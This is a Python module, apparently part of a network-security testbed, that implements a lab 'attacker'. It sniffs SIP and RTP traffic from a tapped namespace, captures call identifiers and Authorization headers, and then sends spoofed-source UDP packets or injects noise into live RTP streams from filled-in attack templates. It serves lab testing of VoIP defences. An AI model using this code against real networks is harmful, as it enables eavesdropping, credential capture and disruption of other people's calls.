"""Somebody else on the network: hears what a tap gives, and sends what is not his to send.

Each attack is a template with places for what was overheard (`{…}`): made on the host, filled in here, at its time.
What comes from his own address leaves by a socket like anybody's; what is in another's name, and speech, scapy makes.
"""

import contextlib
import re
import socket
import struct

from scapy.layers.inet import IP, UDP
from scapy.layers.rtp import RTP
from scapy.packet import Packet, Raw

from testbed.lab.plan import Attack
from testbed.lab.spaces import NodeSpace, entered

ETH_P_IP = 0x0800
# include/uapi/asm-generic/socket.h; Python's socket module does not name it.
SO_RCVBUFFORCE = 33
BUFFER = 8 << 20
SIP_PORT = 5060
SAMPLES = 160
NOISE = b"\x2a" * SAMPLES


class Attacker:
    """`nodes` are where attacks come from; `tap` is the node whose traffic is overheard."""

    def __init__(self, nodes: dict[str, NodeSpace], tap: NodeSpace) -> None:
        self._tap = socket_in(tap, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        self._tap.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, BUFFER)
        self._tap.setblocking(False)
        self._raw = {
            name: socket_in(node, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) for name, node in nodes.items()
        }
        # Answers are taken, as a phone would: else the kernel answers them with ICMP.
        self._phones = {name: socket_in(node, socket.AF_INET, socket.SOCK_DGRAM) for name, node in nodes.items()}
        for phone in self._phones.values():
            phone.bind(("0.0.0.0", SIP_PORT))  # noqa: S104 - all of a namespace of its own
        self._known: dict[str, str] = {}

    def attack(self, attack: Attack) -> None:
        """Sends an attack's packets; none when something that it needs has not been overheard."""
        self._listen()
        with contextlib.suppress(KeyError):
            for number in range(attack["first"], attack["first"] + attack["times"]):
                self._send(attack, number)

    def _send(self, attack: Attack, number: int) -> None:
        """One packet; raises KeyError for what was not overheard."""
        known = {**self._known, "n": str(number)}
        target = attack["to"], int(fill(attack["port"], known))
        text = fill(attack["data"], known)
        data = self._speech(attack, number) if attack["speech"] else Raw(text.encode("latin-1"))
        if attack["is_raw"]:
            udp = UDP(sport=int(fill(attack["source_port"], known)), dport=target[1])
            packet = IP(src=attack["source"], dst=target[0]) / udp / data
            self._raw[attack["node"]].sendto(bytes(packet), (target[0], 0))
        else:
            self._phones[attack["node"]].sendto(bytes(data), target)

    def _speech(self, attack: Attack, number: int) -> Packet:
        """Loud noise with the next numbers of a stream, or with numbers of its own."""
        stream = attack["speech"]
        ssrc, sequence, stamp = (int(self._known[f"{stream}/{name}"]) for name in ("ssrc", "sequence", "stamp"))
        if attack["guessed"]:
            ssrc, sequence = ssrc ^ 0x5A5A5A5A, sequence ^ 0x5A5A
        sequence, stamp = (sequence + number + 1) & 0xFFFF, (stamp + SAMPLES * (number + 1)) & 0xFFFFFFFF
        return RTP(payload_type=0, sequence=sequence, timestamp=stamp, sourcesync=ssrc) / Raw(NOISE)

    def _listen(self) -> None:
        """Takes in what passed the tap: the identifiers of the call, its credentials, its streams' numbers."""
        while True:
            try:
                data = self._tap.recv(65536)
            except BlockingIOError:
                return
            if data[9] != socket.IPPROTO_UDP:
                continue
            head = (data[0] & 0xF) * 4
            source, target = socket.inet_ntoa(data[12:16]), socket.inet_ntoa(data[16:20])
            ports = struct.unpack_from("!HH", data, head)
            payload = data[head + 8 :]
            if SIP_PORT in ports:
                self._hear_sip(source, target, payload.decode("latin-1"))
            elif payload[:1] == b"\x80":
                self._hear_speech(f"{source}>{target}", ports, payload)

    def _hear_sip(self, source: str, target: str, text: str) -> None:
        """What the last message between two hosts said, under `from>to/method/name`."""
        start, _, rest = text.partition("\r\n")
        head = rest.partition("\r\n\r\n")[0]
        fields = {name.lower(): value for name, value in re.findall(r"^([\w-]+): (.*?)\r?$", head, re.MULTILINE)}
        if start.startswith("SIP/2.0"):
            return
        key = f"{source}>{target}/{start.partition(' ')[0]}"
        for name in ("from", "to", "call-id", "authorization", "proxy-authorization"):
            if name in fields:
                self._known[f"{key}/{name}"] = fields[name]
        for name in ("from", "to"):
            if ";tag=" in fields.get(name, ""):
                self._known[f"{key}/{name};tag"] = fields[name].partition(";tag=")[2].partition(";")[0]

    def _hear_speech(self, ends: str, ports: tuple[int, ...], payload: bytes) -> None:
        if payload.endswith(NOISE):
            return
        sequence, stamp, ssrc = struct.unpack_from("!HII", payload, 2)
        numbers = {"ssrc": ssrc, "sequence": sequence, "stamp": stamp, "source": ports[0], "target": ports[1]}
        self._known |= {f"{ends}/{name}": str(value) for name, value in numbers.items()}


def socket_in(node: NodeSpace, *kind: int) -> socket.socket:
    """A socket that belongs to the node's network namespace."""
    with entered(node):
        return socket.socket(*kind)


def fill(template: str, known: dict[str, str]) -> str:
    """The template with its places filled in; raises KeyError for what is not known."""
    return re.sub(r"\{([^{}]+)\}", lambda place: known[place[1]], template)
